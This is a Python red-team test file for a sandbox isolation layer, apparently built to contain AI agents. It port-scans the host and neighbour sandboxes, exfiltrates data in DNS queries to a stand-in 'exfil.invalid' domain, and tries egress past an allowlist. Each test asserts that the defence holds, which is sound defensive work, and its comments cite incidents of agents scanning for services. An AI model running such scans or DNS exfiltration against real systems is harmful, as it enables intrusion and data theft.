"""Network egress, port scans and DNS exfiltration under each policy.

Every target is on this machine: a listener the attack opens on the host's loopback or on the host
side of the sandbox's own veth pair, or a neighbour sandbox. A microVM's or full VM's NIC sits on a tap in a
network namespace of its own, behind that veth pair: the same host rules judge its traffic. Nothing is sent to
an address that could leave the machine, even if a defence failed (no subnet sweeps, no public names
resolved).
"""

from __future__ import annotations

import asyncio
import contextlib
import errno
import ipaddress
import os
import socket
import subprocess
import sys
from collections.abc import Iterator

from redteam import VM_BACKENDS, Target, attack, guest_kernel_is_own, probe

from dsec.isolation.network import GUEST_GATEWAY
from dsec.models import ExecRequest, SandboxRecord

_NETWORKED_ONLY = {"function": "every exec runs in a network namespace with only loopback: no policy other "
                               "than none exists (net-none-scan-host covers it)"}


def _veth(record: SandboxRecord) -> tuple[str, str]:
    """(host side, sandbox side) of a networked sandbox's veth pair (container: the sandbox's own eth0;
    microvm, vm: its namespace's, which the guest's traffic leaves from, masqueraded)."""
    base = int(ipaddress.IPv4Address("10.200.0.0")) + 4 * int(record.backend_state["net_index"])
    return str(ipaddress.IPv4Address(base + 1)), str(ipaddress.IPv4Address(base + 2))

_CONNECT = r"""
def connect(host, port, timeout=2):
    s = socket.socket(); s.settimeout(timeout)
    try:
        s.connect((host, port))
        return 0
    except socket.timeout:
        return errno.ETIMEDOUT
    except OSError as e:
        return e.errno
    finally:
        s.close()
def gateway():
    for line in open("/proc/net/route").read().splitlines()[1:]:
        f = line.split()
        if f[1] == "00000000":
            return socket.inet_ntoa(int(f[2], 16).to_bytes(4, "little"))
    return None
"""


@contextlib.contextmanager
def _listener(address: str) -> Iterator[int]:
    """A TCP listener on the host at ``address`` (port chosen by the kernel) that accepts nothing itself."""
    srv = socket.socket()
    try:
        srv.bind((address, 0))
        srv.listen(8)
        yield srv.getsockname()[1]
    finally:
        srv.close()


def _accepted(port_owner: socket.socket) -> bool:
    port_owner.setblocking(False)
    try:
        conn, _ = port_owner.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


@attack("net-none-scan-host", description="port-scan the host's loopback (a live listener included) and list the "
                                          "links and routes, under the default policy none",
        models="incident: agents scanned for reachable services",
        defence="container: a network namespace with only loopback (the host's 127.0.0.1 is the sandbox's own: "
                "ECONNREFUSED); function: the same, and Landlock denies TCP connect (EACCES); microvm, vm: no network "
                "device in the VM at all")
async def net_none_scan_host(t: Target) -> None:
    with _listener("127.0.0.1") as port:
        res = await probe(t, _CONNECT + f"""
ports = [{port}, 22, 80, 443, 5432, 6379, 8000, 8080, 2375, 10250]
print(json.dumps({{"links": sorted(n for _, n in socket.if_nameindex()), "routes": gateway(),
                  "scan": {{str(p): connect("127.0.0.1", p) for p in ports}}}}))
""")
    assert res["routes"] is None, f"a default route exists: {res}"
    assert res["scan"][str(port)] != 0, f"the host's listener on 127.0.0.1:{port} was reachable"
    if t.name in VM_BACKENDS:
        await guest_kernel_is_own(t)
        assert [link for link in res["links"] if link != "lo"] == [], f"the VM has a network device: {res}"
        return
    assert res["links"] == ["lo"], res
    if t.name == "function":  # Landlock's TCP rules refuse every connect before the stack is reached
        assert set(res["scan"].values()) == {errno.EACCES}, res
    else:
        assert res["scan"][str(port)] == errno.ECONNREFUSED, res


@attack("net-allow-host-services", description="with network='allow', connect to a host service listening on the "
                                               "host side of the sandbox's own veth pair, and scan common ports there",
        models="incident: agents scanned for reachable services (the daemon, databases, the cloud metadata)",
        defence="container, microvm, vm: nftables input chain: from a sandbox only DNS to the proxy reaches the "
                "host (dropped: ETIMEDOUT); microvm, vm: the guest's gateway is its namespace's tap, which drops all "
                "input",
        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": "allow"})
async def net_allow_host_services(t: Target) -> None:
    route = (await probe(t, _CONNECT + "print(json.dumps(gateway()))"))
    assert route, "a sandbox with network='allow' has no default route"
    gw = _veth(t.sb)[0]  # the host side of the sandbox's veth (a container's gateway; behind a microVM's tap)
    if t.name in VM_BACKENDS:
        assert route == GUEST_GATEWAY, route
        near = await probe(t, _CONNECT + f"""
print(json.dumps({{str(p): connect({route!r}, p, 1) for p in [22, 53, 80, 8000]}}))
""")
        assert set(near.values()) == {errno.ETIMEDOUT}, f"the guest's namespace answered: {near}"
    else:
        assert route == gw, (route, gw)
    srv = socket.socket()
    srv.bind((gw, 0))
    srv.listen(8)
    try:
        port = srv.getsockname()[1]
        res = await probe(t, _CONNECT + f"""
print(json.dumps({{str(p): connect({gw!r}, p, 1) for p in [{port}, 22, 80, 5432, 8000]}}))
""")
        assert not _accepted(srv), "the host accepted a connection from the sandbox"
    finally:
        srv.close()
    assert res[str(port)] == errno.ETIMEDOUT, f"host listener on {gw}:{port}: {res}"
    assert all(err != 0 for err in res.values()), res


@attack("net-allow-neighbour", description="with network='allow', connect to a neighbour sandbox's listener by its "
                                           "address",
        models="cross-sandbox: reaching another agent's services",
        defence="container, microvm, vm: nftables forward chain drops anything towards a sandbox that is not a "
                "reply (ETIMEDOUT); microvm, vm: nothing is forwarded towards a guest's tap but replies",
        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": "allow"})
async def net_allow_neighbour(t: Target) -> None:
    async with t.neighbour(network="allow") as other:
        r = await t.backend.exec(other, ExecRequest(command=[
            "sh", "-c", "python3 -c 'import socket,time\ns=socket.socket();s.bind((\"0.0.0.0\",8099));s.listen(8)\n"
                        "time.sleep(60)' >/dev/null 2>&1 & "
                        "python3 -c 'import socket,fcntl,struct;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);"
                        "print(socket.inet_ntoa(fcntl.ioctl(s.fileno(),0x8915,struct.pack(\"256s\",b\"eth0\"))"
                        "[20:24]))'"]))
        own = r.stdout.decode().strip()
        assert own.startswith("10.200."), f"the neighbour has no address: {r}"
        victim = _veth(other)[1]  # where the neighbour's traffic comes from (a container's eth0 is that address)
        await asyncio.sleep(0.5)
        own = await t.backend.exec(other, ExecRequest(command=["python3", "-c", _CONNECT + (
            "import errno, socket\nprint(connect('127.0.0.1', 8099))")]))
        assert own.stdout.strip() == b"0", f"the neighbour's listener is not up: {own}"
        res = await probe(t, _CONNECT + f"print(json.dumps(connect({victim!r}, 8099)))")
    assert res == errno.ETIMEDOUT, f"connecting to the neighbour {victim}:8099 gave {res}"


@attack("net-dns-exfil", description="with an allowlist of one name, exfiltrate data in DNS queries for other names "
                                     "and connect to the resolver's host on other ports",
        models="exfiltration through DNS; policy bypass",
        defence="container, microvm, vm: the DNS proxy answers only allowed names (REFUSED, never forwarded "
                "upstream); the input chain drops everything else to the host (microvm, vm: the resolver is the "
                "namespace's tap, which forwards only DNS to the proxy)",
        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": ["allowed.test:443"]})
async def net_dns_exfil(t: Target) -> None:
    res = await probe(t, _CONNECT + r"""
import struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
def query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.sendto(q, (ns, 53))
        return s.recv(512)[3] & 0x0F
    except OSError as e:
        return "err %d" % e.errno
    finally:
        s.close()
print(json.dumps({"rcode": query("c2VjcmV0LWFuc3dlcg.exfil.invalid"), "ns": ns,
                  "tcp53": connect(ns, 53, 1), "tcp80": connect(ns, 80, 1)}))
""")
    assert res["rcode"] == 5, f"the DNS proxy did not refuse a name outside the allowlist: {res}"
    assert res["tcp80"] == errno.ETIMEDOUT, f"the resolver's host answered on port 80: {res}"


# A peer outside every sandbox for the egress attack: a network namespace of the test's own, on a /30 of
# 10.202.0.0/16 picked by pid (other checkouts' runs use others), with listeners on two ports.
_BLOCK = os.getpid() % 16384
_PEER_HOST = f"10.202.{_BLOCK // 64}.{_BLOCK % 64 * 4 + 1}"
_PEER = f"10.202.{_BLOCK // 64}.{_BLOCK % 64 * 4 + 2}"
_PEER_SERVER = """
import socket, threading
def serve(port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(64)
    while True:
        c, _ = s.accept(); c.close()
for p in (8080, 8081):
    threading.Thread(target=serve, args=(p,), daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"""


@contextlib.contextmanager
def _peer() -> Iterator[None]:
    """The peer namespace with its listeners; everything removed afterwards."""
    ns, link = f"dsec-rtp-{os.getpid()}", f"drtp{os.getpid() % 100000}"
    subprocess.run(["ip", "netns", "add", ns], check=True, capture_output=True)
    server = None
    try:
        subprocess.run(["ip", "-batch", "-"], check=True, capture_output=True, input=(
            f"link add {link} type veth peer name eth0 netns {ns}\naddr add {_PEER_HOST}/30 dev {link}\n"
            f"link set {link} up\n").encode())
        subprocess.run(["ip", "-n", ns, "-batch", "-"], check=True, capture_output=True,
                       input=f"addr add {_PEER}/30 dev eth0\nlink set eth0 up\n".encode())
        server = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", _PEER_SERVER],
                                  stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
        assert server.stdout is not None and server.stdout.readline().strip() == b"ready"
        yield
    finally:
        if server is not None:
            server.kill()
            server.wait()
            if server.stdout is not None:
                server.stdout.close()
        subprocess.run(["ip", "link", "del", link], capture_output=True, check=False)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)


@attack("net-list-egress", description="with an allowlist of one address:port, reach the same host's other port, "
                                       "then keep using the allowed one after set_network('none') (graded phase)",
        models="incident: agents fetched code and scanned for services; policy bypass after set-up",
        defence="container, microvm, vm: the sandbox's own nftables chain outside it (allowlist sets, counted drop: "
                "ETIMEDOUT); set_network swaps that chain in one transaction, cutting even the allowed peer",
        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": [f"{_PEER}:8080"]})
async def net_list_egress(t: Target) -> None:
    with _peer():
        before = await probe(t, _CONNECT + f"""
print(json.dumps({{"allowed": connect({_PEER!r}, 8080), "other_port": connect({_PEER!r}, 8081)}}))
""")
        await t.backend.set_network(t.sb, "none")
        after = await probe(t, _CONNECT + f"print(json.dumps(connect({_PEER!r}, 8080)))")
    assert before["allowed"] == 0, f"the allowlisted peer {_PEER}:8080 was not reachable: {before}"
    assert before["other_port"] == errno.ETIMEDOUT, f"a port outside the allowlist answered: {before}"
    assert after == errno.ETIMEDOUT, f"after set_network('none') the peer still answered: {after}"
